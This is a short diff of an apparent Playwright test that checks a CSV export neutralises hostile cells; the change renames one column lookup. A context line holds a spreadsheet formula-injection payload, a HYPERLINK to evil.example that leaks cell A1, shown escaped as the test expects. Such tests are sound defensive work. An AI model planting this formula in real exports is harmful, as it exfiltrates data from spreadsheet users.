@@ -95,7 +95,7 @@ test.describe('hostile cells in the CSV export', () => {
     const { text } = await (await import('./helpers')).downloadText(page, () => page.getByRole('button', { name: 'Export CSV' }).click())
     const rows = (await import('./helpers')).parseCsv(text)
     const col = (name: string) => rows[0]!.indexOf(name)
-    const [B, P] = [col('body'), col('phone')]
+    const [B, P] = [col('body'), col('party')]
     expect(B).toBeGreaterThanOrEqual(0)
     const body = (needle: string) => rows.find((r) => r[B]?.includes(needle))?.[B]
     expect(body('HYPERLINK')).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")')
